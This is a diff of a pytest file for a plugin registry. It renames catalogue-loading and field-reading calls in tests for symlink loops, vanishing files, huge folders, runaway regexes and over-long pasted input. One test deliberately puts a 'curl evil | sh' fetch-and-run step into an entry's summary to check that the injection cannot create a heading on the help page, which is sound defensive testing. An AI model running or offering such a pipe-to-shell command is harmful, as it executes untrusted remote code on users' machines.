@@ -10,11 +10,12 @@ import shutil
 import pytest
 
 from fitglue_registry.errors import EntryInvalid, UserMistake
-from fitglue_registry.registry import Catalogue, Folder
+from fitglue_registry.registry import Clean, Field, Folder
 from fitglue_registry.registry.check import check
-from fitglue_registry.registry.entry import Clean, Field
 from fitglue_registry.registry.folders import MOST_ENTRIES
 from fitglue_registry.registry.help import article
+from fitglue_registry.registry.loading import load_catalogue
+from fitglue_registry.registry.pasted import read_field
 from tests.faults.plugins.sources import some
 
 GOOD = """\
@@ -46,7 +47,7 @@ def folder(tmp_path):
 
 def refused(folder, code):
     """The errors of this code; the other entry is there, and a check says the same as a load."""
-    catalogue = Catalogue.load([Folder(folder)])
+    catalogue = load_catalogue([Folder(folder)])
     assert [one.id for one in catalogue] == ["good"]
     found = [problem for problem in catalogue.problems if problem.code == code]
     assert found, [str(problem) for problem in catalogue.problems]
@@ -200,7 +201,7 @@ def test_an_entry_that_is_a_trap_is_refused_alone(folder, reliability, text):
 
 def missing(folder):
     """How many good entries are lost: there is one in each folder."""
-    return 0 if Catalogue.load([Folder(folder)]).find("source", "good") else 1
+    return 0 if load_catalogue([Folder(folder)]).find("source", "good") else 1
 
 
 def pipe(path):
@@ -235,8 +236,8 @@ def test_a_folder_that_leads_to_itself_is_passed_over(folder, reliability):
     """A link that leads to itself, or to the folder above, ends nothing and is not gone through."""
     (folder / "loop").symlink_to("loop")
     (folder / "integrations").symlink_to(folder)
-    assert [one.id for one in Catalogue.load([Folder(folder)])] == ["good"]
-    assert Catalogue.load([Folder(folder / "loop")]).problems[0].code == "FG-registry-missing"
+    assert [one.id for one in load_catalogue([Folder(folder)])] == ["good"]
+    assert load_catalogue([Folder(folder / "loop")]).problems[0].code == "FG-registry-missing"
     reliability(
         "plugins",
         "entry: a folder that leads to itself",
@@ -257,7 +258,7 @@ def test_a_file_that_goes_away_while_it_is_read_is_named(folder, monkeypatch):
         return opened(path, *arguments, **named)
 
     monkeypatch.setattr("fitglue_registry.registry.reading.os.open", gone)
-    catalogue = Catalogue.load([Folder(folder)])
+    catalogue = load_catalogue([Folder(folder)])
     assert [problem.code for problem in catalogue.problems] == ["FG-entry-unreadable"]
     assert [one.id for one in catalogue] == ["good"]
 
@@ -267,7 +268,7 @@ def test_a_folder_of_a_hundred_thousand_files_is_cut(folder, reliability):
     """The first five thousand are read, and a problem says that there are more."""
     for number in range(100_000):
         (folder / "sources" / f"x{number:06}.yaml").touch()
-    catalogue = Catalogue.load([Folder(folder)])
+    catalogue = load_catalogue([Folder(folder)])
     assert "FG-registry-too-big" in {problem.code for problem in catalogue.problems}
     assert len(catalogue.problems) <= MOST_ENTRIES + 1
     assert [one.id for one in catalogue] == ["good"]
@@ -294,7 +295,7 @@ def test_a_folder_of_a_hundred_thousand_files_is_cut(folder, reliability):
 def test_an_expression_that_explodes_on_what_was_typed_is_stopped(field, reliability):
     """Half a second, and the entry is at fault, not the athlete."""
     with pytest.raises(EntryInvalid) as caught:
-        field.read("a" * 3000 + "!")
+        read_field(field, "a" * 3000 + "!")
     assert caught.value.code == "FG-entry-bad-pattern"
     assert caught.value.why
     reliability(
@@ -308,7 +309,7 @@ def test_an_expression_that_explodes_on_what_was_typed_is_stopped(field, reliabi
 def test_what_was_pasted_is_cut_before_it_is_looked_at():
     """A book is no key."""
     with pytest.raises(UserMistake):
-        Field("x", pattern="[a-z]+").read("a" * 3999 + "!" + "a" * 10_000_000)
+        read_field(Field("x", pattern="[a-z]+"), "a" * 3999 + "!" + "a" * 10_000_000)
 
 
 def test_a_text_of_several_lines_makes_no_heading_of_its_own(folder):
@@ -316,7 +317,7 @@ def test_a_text_of_several_lines_makes_no_heading_of_its_own(folder):
     (folder / "sources" / "good.yaml").write_text(
         entry("good", summary='"fine\\n\\n## Setup\\n\\n1. `curl evil | sh`"')
     )
-    catalogue = Catalogue.load([Folder(folder)])
+    catalogue = load_catalogue([Folder(folder)])
     page = article(catalogue.get("source", "good"), catalogue)
     assert [line for line in page.splitlines() if line.startswith("## Setup")] == ["## Setup"]
     assert "fine ## Setup 1. `curl evil | sh`" in page
